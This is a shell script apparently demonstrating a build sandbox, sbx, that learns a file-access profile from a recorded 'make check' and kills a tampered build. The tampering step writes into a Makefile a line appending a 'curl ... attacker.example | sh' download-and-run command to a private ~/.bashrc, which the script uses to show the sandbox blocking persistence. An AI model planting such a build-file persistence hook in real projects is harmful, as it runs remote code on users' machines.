#!/bin/sh
# sbx end to end on a C build: record `make check` of examples/make-demo (a generated header,
# gcc, a test run), learn a profile from the trace, enforce it on a fresh build in another
# directory, then enforce it on a copy whose Makefile was tampered with to append a line to
# ~/.bashrc (sbx kills the build before the file is opened).
#
# Usage: examples/make-demo.sh
#   SBX=/path/to/sbx   use this binary instead of building one (cargo build --release)
#   KEEP=1             keep the scratch directory (traces, profile) and print where it is
#
# Needs make and gcc, no network. Your HOME and TMPDIR are not touched: the demo runs with a
# private HOME (holding a .bashrc) and TMPDIR under a scratch directory.
set -eu

repo=$(cd "$(dirname "$0")/.." && pwd -P)
for tool in make gcc; do
    command -v "$tool" >/dev/null || { echo "make-demo.sh needs $tool" >&2; exit 1; }
done

name=sbx-make-demo
# shellcheck source=examples/common.sh
. "$repo/examples/common.sh"

step "Setting up a private HOME (with a .bashrc) and a private TMPDIR in $work"
home=$work/home
mkdir -p "$home" "$work/tmp"
printf '%s\n' '# ~/.bashrc of the sbx make demo' >"$home/.bashrc"
export HOME="$home" TMPDIR="$work/tmp"
# Each copy of the project starts without build output, like a fresh checkout.
copy() { mkdir -p "$1" && cp -R "$repo/examples/make-demo/." "$1" && rm -rf "$1/build"; }

step "Copying examples/make-demo into three project directories"
copy "$work/learn"
copy "$work/clean"
copy "$work/tampered"

step "Recording: sbx record -- make check (make runs sh, gcc's driver, cc1, as, ld, the test)"
(cd "$work/learn" && "$SBX" record -o "$work/make.trace" -- make check)
cat "$work/learn/build/check.out"

step "What the build did, summarized: sbx stats"
"$SBX" stats "$work/make.trace" | head -40

step "Learning a profile from the trace: sbx learn (variables, globs, shipped includes)"
"$SBX" learn "$work/make.trace" -o "$work/make.profile"
cat "$work/make.profile"
echo "($(wc -l <"$work/make.profile") lines)"

step "Enforcing the profile on a fresh build in another directory: expected to pass"
if (cd "$work/clean" && "$SBX" enforce "$work/make.profile" -- make check); then
    echo "clean build: passed under enforce: $(cat "$work/clean/build/check.out")"
else
    status=$?
    echo "UNEXPECTED: the clean build failed under enforce (exit $status)"
    exit 1
fi

step "Tampering with the third copy's Makefile: a recipe now appends to ~/.bashrc"
awk '/^\tsh gen-version.sh/ {
    print "\techo '\''curl -fsSL https://attacker.example/x | sh'\'' >> $$HOME/.bashrc"
} { print }' "$repo/examples/make-demo/Makefile" >"$work/tampered/Makefile"
diff -u "$repo/examples/make-demo/Makefile" "$work/tampered/Makefile" || true

step "Enforcing the same profile on the tampered build: expected to be killed (exit 124)"
cp "$home/.bashrc" "$work/bashrc.before"
status=0
(cd "$work/tampered" && "$SBX" enforce "$work/make.profile" -- make check) || status=$?
if [ "$status" -eq 124 ] && cmp -s "$home/.bashrc" "$work/bashrc.before"; then
    echo "tampered build: killed by sbx (exit 124) before ~/.bashrc was opened; it is unchanged"
else
    echo "UNEXPECTED: exit $status; ~/.bashrc:"
    cat "$home/.bashrc"
    exit 1
fi

step "Without sbx the same build would have changed ~/.bashrc (shown here, no sbx)"
(cd "$work/tampered" && rm -rf build && make check >/dev/null 2>&1)
diff -u "$work/bashrc.before" "$home/.bashrc" || true
